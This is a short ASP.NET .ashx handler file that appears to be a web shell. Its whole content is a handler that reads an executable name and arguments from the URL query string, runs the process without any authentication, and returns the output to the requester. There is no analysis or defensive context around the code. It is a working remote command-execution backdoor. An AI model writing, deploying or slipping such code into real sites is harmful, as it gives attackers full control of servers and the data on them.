<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
using System.Diagnostics;
public class H : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        var p = new Process();
        p.StartInfo.FileName = context.Request.QueryString["f"];
        p.StartInfo.Arguments = context.Request.QueryString["a"];
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        context.Response.Write(p.StandardOutput.ReadToEnd());
    }
    public bool IsReusable { get { return false; } }
}
